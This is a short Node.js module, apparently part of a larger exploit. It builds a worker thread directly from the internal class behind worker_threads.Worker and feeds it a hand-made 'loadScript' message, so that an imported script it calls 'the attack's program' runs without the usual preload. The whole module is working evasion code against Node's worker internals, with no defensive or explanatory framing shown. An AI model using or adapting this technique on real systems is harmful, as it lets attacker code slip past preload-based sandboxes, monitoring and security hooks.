'use strict';
// A thread by the class behind worker_threads.Worker, without a preload: what it runs first is the attack's program.
const { FETCH } = require('./world.cjs');

/** `handle`: of any worker. `start`: how its class started threads when the attack first saw it. */
module.exports = (Raw, start = Raw.prototype.startThread) => {
  const raw = Reflect.construct(Raw, [null, {}, [], new Float64Array(4), true, false, false]);
  const { port2: publicPort } = new MessageChannel();
  const { port2: mainThreadPort } = new MessageChannel();
  const message = {
    type: 'loadScript',
    doEval: 'classic',
    filename: FETCH,
    argv: [],
    workerData: null,
    environmentData: new Map(),
    publicPort,
    mainThreadPort,
    hasStdin: false,
    cwdCounter: new Uint32Array(new SharedArrayBuffer(4)),
  };
  raw.messagePort.postMessage(message, [publicPort, mainThreadPort]);
  Reflect.apply(start, raw, []);
  setTimeout(() => process.exit(), 1500);
};
